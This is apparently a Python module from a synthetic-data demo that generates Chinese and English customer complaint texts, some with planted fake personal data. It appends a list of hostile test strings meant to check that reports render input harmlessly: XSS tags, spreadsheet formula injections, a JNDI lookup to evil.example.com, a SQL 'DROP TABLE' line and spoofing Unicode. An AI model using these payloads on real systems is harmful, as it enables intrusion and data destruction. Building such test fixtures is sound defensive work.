"""What customers write: from templates with many slots, in Chinese and in English, with personal data and worse in it."""

from typing import Any

import numpy as np
import pandas as pd

from ..words import label
from .personal import KINDS, personal
from .world import World, load

PLANTED = ["kind", "written", "plain", "source", "complaint_id"]

# What must come out of a report as text, harmless and readable. Nothing here stands for personal data.
HOSTILE = (
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "</td></table><h1>!</h1>",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example.com","click")',
    "+1+1",
    "@SUM(A1:A9)",
    r"$\foo$ costs $5 to $10, 100$^$ off",
    r"$\frac{1}{0}$",
    "**bold** [link](javascript:alert(1)) ![x](https://evil.example.com/x.png)",
    "{{ 7*7 }} {% raw %} ${jndi:ldap://evil.example.com/a}",
    "'; DROP TABLE complaints; --",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example.com\x07here\x1b]8;;\x07",
    "\u202egnp.exe\u202c \u2066\u200b\ufeff",
    "\x07\x08\x0bbell",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f621\U0001f621\U0001f621",
    "𠮷野家的龘龘龘",
    "很" * 2000,
    "A" * 2000,
)
ONLY_JSON = ("\x00nul\x00", r"\ud83d half of an emoji")  # no other file of the demo can hold them


def write(world: World, cases: pd.DataFrame, rng: np.random.Generator) -> tuple[pd.DataFrame, pd.DataFrame]:
    """`cases` with `text` and `demand`, and the list of all personal data planted in the texts (`PLANTED`)."""
    words, n = load("texts"), len(cases)
    share = cases["channel"].map({k: v["chinese"] for k, v in world.facts["channels"].items()})
    chinese = (rng.random(n) < share).to_numpy()
    silent = rng.random(n) < cases["channel"].map(world.facts["dirt"]["no_text"])
    extra, planted = _personal(world, cases, words["personal"], chinese, ~silent.to_numpy(), rng)
    hostile = _hostile(world, cases, ~silent.to_numpy(), rng)
    luck = rng.random((n, 12))
    rows = zip(
        cases["reason"],
        cases["city"],
        cases["received_at"],
        np.where(chinese, "zh", "en"),
        extra,
        hostile,
        luck,
        strict=True,
    )
    texts = [_text(words, *row) for row in rows]
    text, demand = (pd.Series(column, index=cases.index) for column in zip(*texts, strict=True))
    return cases.assign(text=text.mask(silent, ""), demand=demand), planted


def _text(
    words: dict[str, Any],
    reason: str,
    city: str,
    received: pd.Timestamp,
    lang: str,
    extra: str,
    hostile: str,
    luck: np.ndarray,
) -> tuple[str, str]:
    """One text and the wish at its end, chosen by twelve numbers of `luck`."""

    def of(choices: list[str], u: float) -> str:
        return choices[int(u * len(choices))]

    days = 2 + int(luck[1] * 12)
    ordered = received - pd.Timedelta(days=days + 1)
    fill = {
        "city": label("city", city, lang),
        "item": of(words["fill"]["item"][lang], luck[0]),
        "days": days,
        "hour": 9 + int(luck[2] * 11),
        "amount": 10 * (1 + int(luck[3] ** 3 * 200)),
        "day": f"{ordered.month}月{ordered.day}日" if lang == "zh" else f"{ordered.day} {ordered:%B}",
    }
    part = {name: words[name][lang] for name in ("opening", "detail", "wish")}
    about = of(words["reason"][reason][lang], luck[5])
    more = of(words["reason"][reason][lang], luck[6]) if luck[7] < 0.3 else ""
    wish = of(part["wish"], luck[8])
    details = [of(part["detail"], luck[9]), of(part["detail"], luck[10]) if luck[11] < 0.5 else ""]
    pieces = [of(part["opening"], luck[4]), about, more if more != about else "", *dict.fromkeys(details)]
    text = "".join(pieces).format_map(fill) + extra + wish.format_map(fill) + hostile
    return text.strip(), wish.format_map(fill)


def _personal(
    world: World,
    cases: pd.DataFrame,
    words: dict[str, Any],
    chinese: np.ndarray,
    written: np.ndarray,
    rng: np.random.Generator,
) -> tuple[list[str], pd.DataFrame]:
    """The sentence with personal data of each text ("" in most), and the list of what was planted."""
    extra, planted = [""] * len(cases), []
    weight = np.array([share for share, _ in KINDS.values()] + [8.0])
    kinds = [*KINDS, "order"]
    for i in np.flatnonzero((rng.random(len(cases)) < world.facts["dirt"]["personal"]) & written):
        lang = "zh" if chinese[i] else "en"
        kind = kinds[rng.choice(len(kinds), p=weight / weight.sum())]
        sentences = words[kind][lang] or words[kind]["en"]
        own = cases["order_id"].iloc[i]
        as_written, plainly = (own, own) if kind == "order" else personal(rng, kind, bool(chinese[i]))
        extra[i] = sentences[rng.integers(len(sentences))].format(as_written)
        planted.append((kind, as_written, plainly, cases["channel"].iloc[i], cases["complaint_id"].iloc[i]))
    return extra, pd.DataFrame(planted, columns=PLANTED)


def _hostile(world: World, cases: pd.DataFrame, written: np.ndarray, rng: np.random.Generator) -> list[str]:
    chosen = rng.random(len(cases)) < world.facts["dirt"]["hostile"]
    pick = rng.integers(0, len(HOSTILE), len(cases))
    texts = [HOSTILE[i] if here else "" for i, here in zip(pick, chosen, strict=True)]
    for i, text in zip(
        np.flatnonzero(written & (cases["channel"] == "app"))[-4:], ONLY_JSON * 2, strict=False
    ):
        texts[i] = text
    return texts
